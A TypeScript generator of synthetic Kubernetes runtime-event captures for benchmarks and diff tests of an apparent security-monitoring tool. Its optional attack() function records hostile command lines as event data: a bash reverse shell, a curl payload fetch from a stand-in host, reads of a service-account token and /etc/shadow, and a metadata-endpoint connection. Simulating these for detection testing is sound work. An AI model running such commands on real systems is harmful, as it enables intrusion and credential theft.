/**
 * Deterministic generator of realistic captures, for benchmarks, replay/diff tests and the
 * interim demo capture.
 *
 * The mix follows a small production-like cluster (3 nodes, a shop: web → api → db/redis, DNS,
 * monitoring, kubelet and containerd on the hosts, exec probes): most events are repeats of the
 * same behaviours (a web server answering requests, a database reading its files), a trickle of
 * new behaviours (new external peers, new DNS names, new files) and process churn (probes exec
 * and exit with fresh pids, so pids are reused). Inventory in the header. Optionally an attack
 * story in one web pod (shell, tools, token read, API server, metadata, /etc/shadow ...).
 *
 * Lives in main/ so that tests beside the code can use it; e2e/bench/generate.ts is its CLI:
 *   npx tsx e2e/bench/generate.ts --events 100000 [--seed 1] [--attack] [--out FILE]
 *   ensureCapture(opts) → cached path in os.tmpdir()/lantern-bench
 */
import { mkdir, rename, stat } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { CaptureHeader, Inventory, InvPod } from '../common/capture';
import type { LanternEvent } from '../common/events';
import { CaptureWriter } from '../events/capture-file';

export interface GenerateOptions {
  events: number;
  seed?: number;
  /** Include the attack story (at ~60% of the capture). */
  attack?: boolean;
  /** Events per second of capture time (default 500). */
  rate?: number;
  /** Start time, ms since epoch (default 2026-11-01T10:00:00Z). */
  startMs?: number;
  /** Cluster server in the header (diff refuses different clusters). */
  server?: string;
  /** Context name in the header (the interim demo says it is generated). */
  context?: string;
  probes?: string[];
  /**
   * Variant knob for diff tests: 'extra-egress' adds api → 198.51.100.77:443 on every 100th api
   * request, on top of exactly the same base events (no extra randomness is drawn).
   */
  variant?: 'base' | 'extra-egress';
  /** Seed of the cluster layout (pod name hashes, uids, container ids, pod IPs). Default 7. */
  layoutSeed?: number;
}

const GEN_VERSION = 4;
export const DEFAULT_PROBES = ['exec', 'exit', 'tcp', 'dns', 'open', 'priv', 'ptrace', 'mount', 'module', 'bpf'];

/** mulberry32: small, fast, deterministic. */
function rng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

function hex(r: () => number, n: number): string {
  let s = '';
  while (s.length < n)
    s += Math.floor(r() * 0x100000000)
      .toString(16)
      .padStart(8, '0');
  return s.slice(0, n);
}
function uuid(r: () => number): string {
  const h = hex(r, 32);
  return `${h.slice(0, 8)}-${h.slice(8, 12)}-${h.slice(12, 16)}-${h.slice(16, 20)}-${h.slice(20)}`;
}
function podHash(r: () => number, n: number): string {
  const abc = 'bcdfghjklmnpqrstvwxz2456789';
  let s = '';
  for (let i = 0; i < n; i++) s += abc[Math.floor(r() * abc.length)];
  return s;
}

interface Proc {
  pid: number;
  start: number;
  ppid: number;
  pstart: number;
  uid: number;
  comm: string;
  exe: string;
  args: string[];
}
interface PodSim {
  inv: InvPod;
  ctrId: string;
  cgroup: string;
  node: string;
  ip: string;
  procs: Proc[];
}

export interface GeneratedCapture {
  header: CaptureHeader;
  events: () => Generator<LanternEvent>;
}

/** Builds the cluster and an event generator; nothing touches the disk. */
export function makeCapture(opts: GenerateOptions): GeneratedCapture {
  const seed = opts.seed ?? 1;
  const r = rng(seed);
  // The cluster layout is drawn from its own stream so that variants share pods and ips.
  const rc = rng(opts.layoutSeed ?? 7);
  const startMs = opts.startMs ?? Date.parse('2026-11-01T10:00:00Z');
  const rate = opts.rate ?? 500;
  const nodes = ['node-a', 'node-b', 'node-c'];
  const nodeIps = ['10.0.0.11', '10.0.0.12', '10.0.0.13'];
  const bootNs = (startMs - 86_400_000) * 1e6;
  const pods: PodSim[] = [];
  let podIp = 10 + Math.floor(rc() * 100);
  const nextPid = new Map(nodes.map((n) => [n, 3000]));
  const procStart = (): number => Math.floor(r() * 1e12) + 1e12;

  function addPod(
    ns: string,
    wlKind: string,
    wlName: string,
    name: string,
    node: string,
    sa: string,
    ctr: string,
    image: string,
    procs: [string, string[], number][],
    hostNetwork = false,
  ): PodSim {
    const uid = uuid(rc);
    const ctrId = hex(rc, 64);
    const ip = hostNetwork ? nodeIps[nodes.indexOf(node)]! : `10.244.${nodes.indexOf(node)}.${podIp++}`;
    const inv: InvPod = {
      uid,
      name,
      namespace: ns,
      node,
      labels: { app: wlName },
      serviceAccount: sa,
      ips: [ip],
      hostNetwork,
      phase: 'Running',
      workload: { kind: wlKind, name: wlName },
      containers: [{ name: ctr, id: ctrId, image }],
      ...(ns === 'lantern-system' ? { lanternCapture: true } : {}),
    };
    const cgroup = `/kubepods.slice/kubepods-besteffort.slice/kubepods-besteffort-pod${uid.replace(/-/g, '_')}.slice/cri-containerd-${ctrId}.scope`;
    const sim: PodSim = { inv, ctrId, cgroup, node, ip, procs: [] };
    let parent: Proc | undefined;
    for (const [exe, args, uidn] of procs) {
      const pid = nextPid.get(node)!;
      nextPid.set(node, pid + 1 + Math.floor(rc() * 5));
      const p: Proc = {
        pid,
        start: Math.floor(rc() * 1e12) + 1e11,
        ppid: parent?.pid ?? 1,
        pstart: parent?.start ?? 0,
        uid: uidn,
        comm: exe.slice(exe.lastIndexOf('/') + 1).slice(0, 15),
        exe,
        args,
      };
      parent ??= p;
      sim.procs.push(p);
    }
    pods.push(sim);
    return sim;
  }

  const webs: PodSim[] = [];
  const rs = podHash(rc, 10);
  for (let i = 0; i < 3; i++)
    webs.push(
      addPod('shop', 'Deployment', 'web', `web-${rs}-${podHash(rc, 5)}`, nodes[i % 3]!, 'web', 'nginx', 'nginx:1.27', [
        ['/usr/sbin/nginx', ['nginx', '-g', 'daemon off;'], 0],
        ['/usr/sbin/nginx', ['nginx: worker process'], 101],
        ['/usr/sbin/nginx', ['nginx: worker process'], 101],
      ]),
    );
  const apis: PodSim[] = [];
  const rs2 = podHash(rc, 10);
  for (let i = 0; i < 2; i++)
    apis.push(
      addPod(
        'shop',
        'Deployment',
        'api',
        `api-${rs2}-${podHash(rc, 5)}`,
        nodes[(i + 1) % 3]!,
        'api',
        'api',
        'shop/api:2.3.1',
        [['/usr/local/bin/node', ['node', '/app/server.js'], 1000]],
      ),
    );
  const db = addPod('shop', 'StatefulSet', 'db', 'db-0', 'node-c', 'default', 'postgres', 'postgres:16', [
    ['/usr/lib/postgresql/16/bin/postgres', ['postgres', '-D', '/var/lib/postgresql/data'], 999],
    ['/usr/lib/postgresql/16/bin/postgres', ['postgres: checkpointer'], 999],
    ['/usr/lib/postgresql/16/bin/postgres', ['postgres: walwriter'], 999],
  ]);
  const redis = addPod(
    'shop',
    'Deployment',
    'redis',
    `redis-${podHash(rc, 10)}-${podHash(rc, 5)}`,
    'node-b',
    'default',
    'redis',
    'redis:7',
    [['/usr/local/bin/redis-server', ['redis-server', '*:6379'], 999]],
  );
  const dnsPods: PodSim[] = [];
  const rs3 = podHash(rc, 10);
  for (let i = 0; i < 2; i++)
    dnsPods.push(
      addPod(
        'kube-system',
        'Deployment',
        'coredns',
        `coredns-${rs3}-${podHash(rc, 5)}`,
        nodes[i]!,
        'coredns',
        'coredns',
        'registry.k8s.io/coredns/coredns:v1.11.3',
        [['/coredns', ['/coredns', '-conf', '/etc/coredns/Corefile'], 0]],
      ),
    );
  const prom = addPod(
    'monitoring',
    'StatefulSet',
    'prometheus',
    'prometheus-0',
    'node-a',
    'prometheus',
    'prometheus',
    'prom/prometheus:v3.0.0',
    [['/bin/prometheus', ['/bin/prometheus', '--config.file=/etc/prometheus/prometheus.yml'], 65534]],
  );
  const exporters: PodSim[] = [];
  for (let i = 0; i < 3; i++)
    exporters.push(
      addPod(
        'monitoring',
        'DaemonSet',
        'node-exporter',
        `node-exporter-${podHash(rc, 5)}`,
        nodes[i]!,
        'node-exporter',
        'node-exporter',
        'prom/node-exporter:v1.8.2',
        [['/bin/node_exporter', ['/bin/node_exporter', '--path.rootfs=/host'], 65534]],
        true,
      ),
    );
  const captures: PodSim[] = [];
  for (let i = 0; i < 3; i++)
    captures.push(
      addPod(
        'lantern-system',
        'Pod',
        `lantern-capture-${nodes[i]}`,
        `lantern-capture-${nodes[i]}-${podHash(rc, 5)}`,
        nodes[i]!,
        'default',
        'agent',
        'lantern/agent:0.1.0',
        [['/usr/bin/bpftrace', ['bpftrace', '/opt/lantern/agent.bt'], 0]],
        true,
      ),
    );

  // Host processes per node.
  const hostProcs = new Map<string, Proc[]>();
  for (const n of nodes) {
    const mk = (pid: number, exe: string, args: string[]): Proc => ({
      pid,
      start: Math.floor(rc() * 1e10) + 1e9,
      ppid: 1,
      pstart: 0,
      uid: 0,
      comm: exe.slice(exe.lastIndexOf('/') + 1).slice(0, 15),
      exe,
      args,
    });
    hostProcs.set(n, [
      mk(812, '/usr/bin/kubelet', ['/usr/bin/kubelet', '--config=/var/lib/kubelet/config.yaml']),
      mk(640, '/usr/bin/containerd', ['/usr/bin/containerd']),
      mk(455, '/usr/lib/systemd/systemd-journald', ['systemd-journald']),
    ]);
  }

  const services = [
    { name: 'web', namespace: 'shop', ip: '10.96.10.10', port: 80, target: webs },
    { name: 'api', namespace: 'shop', ip: '10.96.10.20', port: 8080, target: apis },
    { name: 'db', namespace: 'shop', ip: '10.96.10.30', port: 5432, target: [db] },
    { name: 'redis', namespace: 'shop', ip: '10.96.10.40', port: 6379, target: [redis] },
    { name: 'kube-dns', namespace: 'kube-system', ip: '10.96.0.10', port: 53, target: dnsPods },
  ];
  const apiServer = '10.96.0.1';
  const apiEndpoint = '192.168.0.10';
  const inventory: Inventory = {
    takenAt: new Date(startMs).toISOString(),
    nodes: nodes.map((n, i) => ({
      name: n,
      kernel: '6.18.0',
      runtime: 'containerd://2.0.0',
      addresses: [nodeIps[i]!],
      ready: true,
      labels: { 'kubernetes.io/hostname': n },
    })),
    namespaces: ['default', 'kube-system', 'shop', 'monitoring', 'lantern-system'].map((name) => ({
      name,
      podSecurity: name === 'lantern-system' ? { enforce: 'privileged' } : {},
    })),
    pods: pods.map((p) => p.inv),
    services: [
      {
        name: 'kubernetes',
        namespace: 'default',
        type: 'ClusterIP',
        clusterIPs: [apiServer],
        ports: [{ name: 'https', port: 443 }],
        endpoints: [{ ip: apiEndpoint }],
      },
      ...services.map((s) => ({
        name: s.name,
        namespace: s.namespace,
        type: 'ClusterIP',
        clusterIPs: [s.ip],
        ports: [{ name: s.name === 'kube-dns' ? 'dns' : 'http', port: s.port }],
        endpoints: s.target.map((t) => ({ ip: t.ip, podUid: t.inv.uid, node: t.node })),
      })),
    ],
    serviceAccounts: [...new Set(pods.map((p) => `${p.inv.namespace}/${p.inv.serviceAccount}`))].map((s) => {
      const [namespace, name] = s.split('/') as [string, string];
      return { namespace, name };
    }),
    apiServer: { addresses: [apiServer, apiEndpoint], port: 443 },
  };
  const probes = opts.probes ?? DEFAULT_PROBES;
  const header: CaptureHeader = {
    lantern: 'capture',
    version: 1,
    created: new Date(startMs).toISOString(),
    tool: { name: 'lantern', version: '0.1.0' },
    cluster: {
      server: opts.server ?? 'https://192.168.0.10:6443',
      context: opts.context ?? 'prod-eu',
      name: opts.context ?? 'prod-eu',
    },
    nodes: nodes.map((name) => ({ name, kernel: '6.18.0', agentVersion: '0.1.0', bpftraceVersion: '0.17' })),
    probes,
    source: 'lantern',
    durationSec: Math.ceil(opts.events / rate),
    sessionId: `gen-${seed}`,
    inventory,
  };

  const clientIps: string[] = [];
  for (let i = 0; i < 40; i++) clientIps.push(`203.0.${113 + (i % 3)}.${1 + i * 5}`);
  const rareIps: string[] = [];
  for (let i = 0; i < 3000; i++) rareIps.push(`${45 + (i % 50)}.${(i * 7) % 250}.${(i * 13) % 250}.${1 + (i % 250)}`);
  const domains = [
    'db.shop.svc.cluster.local',
    'redis.shop.svc.cluster.local',
    'api.shop.svc.cluster.local',
    'payments.example.com',
    'auth.example.com',
  ];
  const rareDomains: string[] = [];
  for (let i = 0; i < 2000; i++) rareDomains.push(`cdn-${i}.assets.example.net`);
  const staticFiles: string[] = [];
  for (let i = 0; i < 120; i++) staticFiles.push(`/usr/share/nginx/html/assets/img-${i}.png`);
  const pgFiles: string[] = [];
  for (let i = 0; i < 60; i++) pgFiles.push(`/var/lib/postgresql/data/base/16384/${2600 + i * 3}`);

  /** Variant events: on top of the `events` requested, so a variant is its base plus them. */
  const extraEvents = new WeakSet<LanternEvent>();

  /** Exactly `opts.events` events (plus variant extras): one loop step may produce several. */
  function* events(): Generator<LanternEvent> {
    let n = 0;
    for (const e of rawEvents()) {
      if (!extraEvents.has(e) && ++n > opts.events) return;
      yield e;
    }
  }

  function* rawEvents(): Generator<LanternEvent> {
    const total = opts.events;
    const seq = new Map(nodes.map((n) => [n, 0]));
    let i = 0;
    let t = startMs * 1e6;
    const step = 1e9 / rate;
    const ev = (
      kind: LanternEvent['kind'],
      node: string,
      p: Proc | undefined,
      sim: PodSim | undefined,
      extra: Partial<LanternEvent>,
    ): LanternEvent => {
      const s = seq.get(node)! + 1;
      seq.set(node, s);
      const e: LanternEvent = { kind, time: Math.round(t), node, seq: s, source: 'lantern' };
      if (p)
        e.proc = { pid: p.pid, start: p.start, ppid: p.ppid, pstart: p.pstart, uid: p.uid, comm: p.comm, exe: p.exe };
      if (sim) e.container = { id: sim.ctrId, podUid: sim.inv.uid, cgroup: sim.cgroup };
      Object.assign(e, extra);
      i++;
      return e;
    };
    const pick = <T>(a: T[]): T => a[Math.floor(r() * a.length)]!;
    const tcp = (saddr: string, sport: number, daddr: string, dport: number) => ({
      proto: 'tcp' as const,
      family: 4 as const,
      saddr,
      sport,
      daddr,
      dport,
    });
    const eph = () => 32768 + Math.floor(r() * 28000);

    // Capture start: agent status and the process/socket snapshot.
    for (const n of nodes)
      yield ev('agent.status', n, undefined, undefined, {
        agent: {
          phase: 'start',
          kernel: '6.18.0',
          bpftrace: '0.17',
          agentVersion: '0.1.0',
          probes,
          bootTimeNs: bootNs,
        },
      });
    for (const sim of pods)
      for (const p of sim.procs) yield ev('snapshot.proc', sim.node, { ...p }, sim, { proc: { ...p } });
    for (const [n, ps] of hostProcs)
      for (const p of ps)
        yield ev('snapshot.proc', n, p, undefined, {
          proc: { pid: p.pid, start: p.start, ppid: 1, uid: 0, comm: p.comm, exe: p.exe, args: p.args },
        });
    for (const w of webs) yield ev('listen', w.node, w.procs[0], w, { net: tcp('0.0.0.0', 80, '0.0.0.0', 0) });
    for (const a of apis) yield ev('listen', a.node, a.procs[0], a, { net: tcp('0.0.0.0', 8080, '0.0.0.0', 0) });
    yield ev('listen', db.node, db.procs[0], db, { net: tcp('0.0.0.0', 5432, '0.0.0.0', 0) });

    const attackAt = opts.attack ? Math.floor(total * 0.6) : -1;
    let attacked = false;
    let apiRequests = 0;
    let lastTick = t;
    while (i < total) {
      t += step * (0.5 + r());
      if (t - lastTick > 10e9) {
        lastTick = t;
        for (const n of nodes) {
          yield ev('agent.status', n, undefined, undefined, {
            agent: { phase: 'tick', counters: { events: seq.get(n)! } },
          });
          // kubelet exec probe in the db pod and the api pods: fresh pids, then exit (pid churn).
        }
        for (const target of [db, ...apis]) {
          const n = target.node;
          const kubelet = hostProcs.get(n)![0]!;
          const pid = nextPid.get(n)!;
          nextPid.set(n, pid > 4_000_000 ? 3000 : pid + 1 + Math.floor(r() * 3));
          const sh: Proc = {
            pid,
            start: procStart(),
            ppid: target.procs[0]!.pid,
            pstart: target.procs[0]!.start,
            uid: target.procs[0]!.uid,
            comm: 'sh',
            exe: '/bin/sh',
            args: [],
          };
          const cmd =
            target === db ? ['pg_isready', '-U', 'postgres'] : ['wget', '-qO-', 'http://127.0.0.1:8080/healthz'];
          yield ev('exec', n, sh, target, {
            proc: { ...sh, ppid: kubelet.pid, pstart: kubelet.start, args: ['sh', '-c', cmd.join(' ')] },
          });
          const tool: Proc = {
            ...sh,
            comm: cmd[0]!.slice(0, 15),
            exe: target === db ? '/usr/lib/postgresql/16/bin/pg_isready' : '/usr/bin/wget',
            args: cmd,
          };
          yield ev('exec', n, tool, target, { proc: { ...tool, ppid: kubelet.pid, pstart: kubelet.start } });
          if (target === db) yield ev('connect', n, tool, target, { net: tcp('127.0.0.1', eph(), '127.0.0.1', 5432) });
          else yield ev('connect', n, tool, target, { net: tcp('127.0.0.1', eph(), '127.0.0.1', 8080) });
          yield ev('exit', n, tool, target, { exit: { code: 0 } });
        }
        continue;
      }
      if (i >= attackAt && !attacked && attackAt >= 0) {
        attacked = true;
        yield* attack(webs[0]!);
        continue;
      }
      const x = r();
      if (x < 0.3) {
        // web answers a request from a client, reads a static file, asks the api
        const w = pick(webs);
        const worker = w.procs[1 + Math.floor(r() * 2)]!;
        yield ev('accept', w.node, worker, w, { net: tcp(w.ip, 80, pick(clientIps), eph()) });
        if (r() < 0.5) yield ev('open', w.node, worker, w, { file: { path: pick(staticFiles) } });
        if (r() < 0.4) yield ev('connect', w.node, worker, w, { net: tcp(w.ip, eph(), '10.96.10.20', 8080) });
      } else if (x < 0.5) {
        const a = pick(apis);
        const p = a.procs[0]!;
        yield ev('accept', a.node, p, a, { net: tcp(a.ip, 8080, pick(webs).ip, eph()) });
        const y = r();
        if (y < 0.5) yield ev('connect', a.node, p, a, { net: tcp(a.ip, eph(), '10.96.10.30', 5432) });
        else if (y < 0.8) yield ev('connect', a.node, p, a, { net: tcp(a.ip, eph(), '10.96.10.40', 6379) });
        else {
          const q = r() < 0.995 ? pick(domains) : pick(rareDomains);
          yield ev('dns', a.node, p, a, {
            dns: { query: q, server: '10.96.0.10', serverPort: 53 },
            net: { proto: 'udp', family: 4, saddr: a.ip, sport: eph(), daddr: '10.96.0.10', dport: 53 },
          });
        }
        if (opts.variant === 'extra-egress' && ++apiRequests % 100 === 0) {
          const extra = ev('connect', a.node, p, a, { net: tcp(a.ip, 45000, '198.51.100.77', 443) });
          extraEvents.add(extra);
          yield extra;
          i--; // not counted, so the base events stay exactly those of the base capture
        }
      } else if (x < 0.65) {
        const p = db.procs[Math.floor(r() * 3)]!;
        if (r() < 0.3) yield ev('accept', db.node, db.procs[0]!, db, { net: tcp(db.ip, 5432, pick(apis).ip, eph()) });
        const w = r() < 0.2;
        yield ev('open', db.node, p, db, {
          file: {
            path: w ? '/var/lib/postgresql/data/pg_wal/000000010000000000000001' : pick(pgFiles),
            write: w,
            flags: w ? 1 : 0,
          },
        });
      } else if (x < 0.72) {
        yield ev('accept', redis.node, redis.procs[0]!, redis, { net: tcp(redis.ip, 6379, pick(apis).ip, eph()) });
      } else if (x < 0.8) {
        const d = pick(dnsPods);
        yield ev('connect', d.node, d.procs[0]!, d, {
          net: { proto: 'udp', family: 4, saddr: d.ip, sport: eph(), daddr: '10.0.0.2', dport: 53 },
        });
      } else if (x < 0.86) {
        // prometheus scrapes exporters and pods
        const target = r() < 0.5 ? pick(exporters) : pick([...webs, ...apis]);
        yield ev('connect', prom.node, prom.procs[0]!, prom, {
          net: tcp(prom.ip, eph(), target.ip, target === db ? 9187 : target.inv.hostNetwork ? 9100 : 9113),
        });
      } else if (x < 0.9) {
        const e = pick(exporters);
        yield ev('open', e.node, e.procs[0]!, e, { file: { path: `/host/proc/${100 + Math.floor(r() * 4000)}/stat` } });
      } else if (x < 0.97) {
        // host: kubelet talks to the API server, reads pod volumes; containerd; journald
        const n = pick(nodes);
        const [kubelet, containerd, journald] = hostProcs.get(n)!;
        const y = r();
        if (y < 0.4)
          yield ev('connect', n, kubelet, undefined, {
            net: tcp(nodeIps[nodes.indexOf(n)]!, eph(), apiEndpoint, 6443),
          });
        else if (y < 0.7) {
          const sim = pick(pods.filter((p) => p.node === n));
          yield ev('open', n, kubelet, undefined, {
            file: {
              path: `/var/lib/kubelet/pods/${sim.inv.uid}/volumes/kubernetes.io~projected/kube-api-access/token`,
            },
          });
        } else if (y < 0.85)
          yield ev('open', n, containerd, undefined, {
            file: {
              path: `/run/containerd/io.containerd.runtime.v2.task/k8s.io/${pick(pods.filter((p) => p.node === n)).ctrId}/config.json`,
            },
          });
        else
          yield ev('open', n, journald, undefined, {
            file: { path: '/var/log/journal/system.journal', write: true, flags: 1 },
          });
      } else if (x < 0.9995) {
        // capture pods read their own tracefs
        const c = pick(captures);
        yield ev('open', c.node, c.procs[0]!, c, { file: { path: '/sys/kernel/tracing/events/syscalls/enable' } });
      } else {
        // new behaviour: web connects to a rarely seen external address
        const w = pick(webs);
        yield ev('connect', w.node, w.procs[1]!, w, { net: tcp(w.ip, eph(), pick(rareIps), 443) });
      }
    }
    void attacked;

    function* attack(w: PodSim): Generator<LanternEvent> {
      const n = w.node;
      const nginx = w.procs[1]!;
      const mk = (exe: string, args: string[], parent: Proc, uid = 101): Proc => {
        const pid = nextPid.get(n)!;
        nextPid.set(n, pid + 1);
        return {
          pid,
          start: procStart(),
          ppid: parent.pid,
          pstart: parent.start,
          uid,
          comm: exe.slice(exe.lastIndexOf('/') + 1).slice(0, 15),
          exe,
          args,
        };
      };
      const sh = mk('/bin/sh', ['sh', '-c', 'bash -i >& /dev/tcp/198.51.100.23/4444 0>&1'], nginx);
      yield ev('exec', n, sh, w, { proc: { ...sh } });
      const bash = mk('/bin/bash', ['bash', '-i'], sh);
      yield ev('exec', n, bash, w, { proc: { ...bash } });
      yield ev('connect', n, bash, w, { net: tcp(w.ip, 40111, '198.51.100.23', 4444) });
      t += 2e9;
      const curl = mk('/usr/bin/curl', ['curl', '-sO', 'http://198.51.100.23/x.sh'], bash);
      yield ev('exec', n, curl, w, { proc: { ...curl } });
      yield ev('dns', n, curl, w, { dns: { query: 'evil.example.org', server: '10.96.0.10', serverPort: 53 } });
      yield ev('connect', n, curl, w, { net: tcp(w.ip, 40112, '198.51.100.23', 80) });
      yield ev('open', n, curl, w, { file: { path: '/tmp/x.sh', write: true, flags: 577 } });
      yield ev('exit', n, curl, w, { exit: { code: 0 } });
      t += 1e9;
      const cat = mk('/bin/cat', ['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'], bash);
      yield ev('exec', n, cat, w, { proc: { ...cat } });
      yield ev('open', n, cat, w, { file: { path: '/var/run/secrets/kubernetes.io/serviceaccount/token' } });
      yield ev('exit', n, cat, w, { exit: { code: 0 } });
      yield ev('connect', n, bash, w, { net: tcp(w.ip, 40113, apiServer, 443) });
      yield ev('connect', n, bash, w, { net: tcp(w.ip, 40114, '169.254.169.254', 80) });
      const shadow = mk('/bin/cat', ['cat', '/etc/shadow'], bash);
      yield ev('exec', n, shadow, w, { proc: { ...shadow } });
      yield ev('open', n, shadow, w, { file: { path: '/etc/shadow' }, ret: -13 });
      yield ev('exit', n, shadow, w, { exit: { code: 1 } });
      const x = mk('/tmp/x.sh', ['/tmp/x.sh', '<img src=x onerror=alert(1)>'], bash);
      yield ev('exec', n, x, w, { proc: { ...x } });
      yield ev('setuid', n, x, w, { priv: { op: 'setuid', uid: 0 } });
      yield ev('connect', n, x, w, { net: tcp(w.ip, 40115, '198.51.100.99', 3333) });
    }
  }

  return { header, events };
}

/** Writes a generated capture with the real capture writer. */
export async function generateCapture(opts: GenerateOptions, out: string): Promise<{ path: string; events: number }> {
  const cap = makeCapture(opts);
  const tmp = `${out}.part-${process.pid}`;
  const w = await CaptureWriter.create(tmp, cap.header, { level: 6 });
  let n = 0;
  for (const ev of cap.events()) {
    n++;
    if (!w.write(ev)) await w.drain();
  }
  await w.close({ status: 'complete' });
  await rename(tmp, out);
  return { path: out, events: n };
}

/** A generated capture cached in os.tmpdir()/lantern-bench (regenerated when the generator changes). */
export async function ensureCapture(opts: GenerateOptions): Promise<string> {
  const dir = join(tmpdir(), 'lantern-bench');
  await mkdir(dir, { recursive: true });
  const name = `gen-v${GEN_VERSION}-${opts.events}-s${opts.seed ?? 1}-l${opts.layoutSeed ?? 7}${opts.attack ? '-attack' : ''}${opts.variant && opts.variant !== 'base' ? `-${opts.variant}` : ''}.lantern`;
  const path = join(dir, name);
  try {
    if ((await stat(path)).size > 0) return path;
  } catch {
    // not there yet
  }
  await generateCapture(opts, path);
  return path;
}
